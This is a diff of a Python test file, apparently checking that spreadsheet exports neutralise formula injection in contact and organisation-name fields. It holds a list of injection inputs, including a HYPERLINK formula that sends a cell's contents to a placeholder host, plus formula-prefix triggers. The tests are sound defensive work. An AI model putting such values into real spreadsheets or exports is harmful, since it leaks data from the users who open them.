@@ -6,7 +6,8 @@ import zipfile
 from openpyxl import load_workbook
 
 # what a penetration test types into 联系人 / 机构名称 (issue 13 item 2)
-NASTY = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "#N/A")
+# (the first fits 联系人, 40 characters)
+NASTY = ("=HYPERLINK(\"http://e.example/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "#N/A")
 
 
 def formulas_in(data):
